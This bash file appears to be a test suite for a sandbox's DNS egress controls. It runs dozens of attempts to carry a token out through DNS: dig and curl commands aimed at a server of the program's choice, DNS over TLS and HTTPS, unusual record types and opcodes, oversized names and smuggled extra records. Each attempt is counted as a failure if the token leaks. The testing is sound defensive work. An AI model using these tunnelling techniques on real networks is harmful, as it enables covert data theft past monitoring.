# shellcheck shell=bash
# Names carry nothing out: not to a server of the program's choice, not through the host's own resolver.  Each question
# holds a token; a packet with the token at the server, from whomever, is the harm.
# ask NAME TOKEN 'ATTEMPT' [FIELD...]: control: the sandbox's resolver answers an allowed name however it is asked.
DIRECT="$A probe dns $S_IP direct.example.test"
ask() {
	local name=$1 token=$2 attempt=$3; shift 3
	try "$name" layer=resolver attempt="$attempt" harm="leaked $token" control="$DIRECT" "$@"
	fresh
}
fresh
ask "UDP to a server of its choice" ownudp "$A ask udp $D 1 exfil-ownudp-.example.test" control="$A probe dns $D direct.example.test"
ask "TCP to a server of its choice" owntcp "$A ask tcp $D 1 exfil-owntcp-.example.test" control="$A probe dnstcp $D direct.example.test"
ask "UDP to a server of its choice, IPv6" ownudp6 "$A ask udp $D6 1 exfil-ownudp6-.example.test" control="$A probe dns $D6 direct.example.test"
ask "TCP to a server of its choice, IPv6" owntcp6 "$A ask tcp $D6 1 exfil-owntcp6-.example.test" control="$A probe dnstcp $D6 direct.example.test"
ask "UDP to a server of its choice, mapped address" ownmapped "$A ask udp ::ffff:$D 1 exfil-ownmapped-.example.test" \
	control="$A probe dns ::ffff:$D direct.example.test"
ask "dig @server" digudp "dig +tries=1 +timeout=2 @$D exfil-digudp-.example.test"
ask "dig +tcp @server" digtcp "dig +tcp +tries=1 +timeout=2 @$D exfil-digtcp-.example.test"
try "DNS over TLS" layer=ebpf attempt="$A connect $D 853" harm="arrived tcp $D 853" control="$DIRECT" \
	log="action=deny dst_host=$D dst_port=853 binary=$A "
fresh
try "DNS over HTTPS" layer=ebpf attempt="curl -sS -m 3 -k https://$D/dns-query?dns=AAAB" harm="arrived tcp $D 443" control="$DIRECT" \
	log="action=deny dst_host=$D dst_port=443 binary=/usr/bin/curl "
fresh
# The host's own resolver: what nobody may reach is not asked about.
ask "A of a name that no policy has" plain "$A ask udp $S_IP 1 exfil-plain-.example.test"
ask "over TCP" plaintcp "$A ask tcp $S_IP 1 exfil-plaintcp-.example.test" control="$A probe dnstcp $S_IP direct.example.test"
ask "by the C library" getaddrinfo "getent hosts exfil-getaddrinfo-.example.test"
ask "by curl" curl "curl -sS -m 3 http://exfil-curl-.example.test/" \
	log="action=deny dst_host=exfil-curl-.example.test dst_port=80 binary=/usr/bin/curl "
ask "a label before an allowed name" before "$A ask udp $S_IP 1 exfil-before-.direct.example.test"
for t in 2:NS 5:CNAME 6:SOA 10:NULL 12:PTR 13:HINFO 15:MX 16:TXT 28:AAAA 29:LOC 33:SRV 35:NAPTR 43:DS 48:DNSKEY 52:TLSA 64:SVCB 65:HTTPS \
	99:SPF 250:TSIG 251:IXFR 252:AXFR 255:ANY 256:URI 257:CAA 65280:private 0:type0; do
	n=$(tr A-Z a-z <<<"${t#*:}")
	ask "${t#*:} of another name" "$n" "$A ask udp $S_IP ${t%%:*} exfil-$n-.example.test"
done
for t in 10:NULL 16:TXT 65:HTTPS 255:ANY 252:AXFR; do
	n=$(tr A-Z a-z <<<"${t#*:}")tcp
	ask "${t#*:} over TCP" "$n" "$A ask tcp $S_IP ${t%%:*} exfil-$n-.example.test"
done
ask "class CHAOS" chaos "$A ask udp $S_IP 16 exfil-chaos-.example.test 3"
ask "class ANY" anyclass "$A ask udp $S_IP 1 exfil-anyclass-.example.test 255"
ask "opcode UPDATE" update "$A ask udp $S_IP 6 exfil-update-.example.test 1 5"
ask "opcode NOTIFY" notify "$A ask udp $S_IP 6 exfil-notify-.example.test 1 4"
ask "opcode IQUERY" iquery "$A ask udp $S_IP 1 exfil-iquery-.example.test 1 1"
L63=$(printf 'x%.0s' {1..63}) L61=$(printf 'y%.0s' {1..61})
ask "name of 255 bytes" long "$A ask udp $S_IP 1 exfil-long-.$L63.$L63.$L63.${L61:0:49}"
ask "name of 256 bytes" toolong "$A ask udp $S_IP 1 exfil-toolong-.$L63.$L63.$L63.${L61:0:47}"
ask "name of 600 bytes" verylong "$A ask udp $S_IP 1 exfil-verylong-.$L63.$L63.$L63.$L63.$L63.$L63.$L63.$L63"
ask "label of 100 bytes" label "$A ask udp $S_IP 1 exfil-label-$L63$L61.example.test"
ask "127 labels" labels "$A ask udp $S_IP 1 exfil-labels-$(printf '.a%.0s' {1..100}).test"
ask "NUL in a label" nul "$A ask udp $S_IP 1 direct^exfil-nul-.example.test"
ask "dot in a label" dot "$A ask udp $S_IP 1 direct_exfil-dot-.example.test"
ask "bytes that are not ASCII" binary "$A ask udp $S_IP 1 exfil-binary-~~~~.example.test"
ask "upper case" upper "$A ask udp $S_IP 1 EXFIL-UPPER-.EXAMPLE.TEST"
ask "a dot inside an allowed name's label" hidden "$A ask udp $S_IP 1 exfil-hidden-_direct.example.test"
ask "bytes behind the question" trailing "$A askmore udp $S_IP direct.example.test trailing exfil-trailing-"
ask "a record behind the question" additional "$A askmore udp $S_IP direct.example.test additional exfil-additional-"
ask "an EDNS option" edns "$A askmore udp $S_IP direct.example.test edns exfil-edns-"
ask "two questions" two "$A askmore udp $S_IP direct.example.test two exfil-two-.example.test"
ask "an answer as a question" response "$A askmore udp $S_IP direct.example.test response exfil-response-.example.test"
ask "bytes behind the question, TCP" trailingtcp "$A askmore tcp $S_IP direct.example.test trailing exfil-trailingtcp-"
ask "case of letters in an allowed name" mixed "$A ask udp $S_IP 1 DiReCt.ExAmPlE.TeSt" \
	harm='grep -q "query.* DiReCt" "$T/log/dns.log"'
try "3000 random names, then an allowed one" layer=resolver alone=1 attempt="$A flood $S_IP 3000 example.test" harm="leaked flood" \
	control="$A probe name direct.example.test 4000"
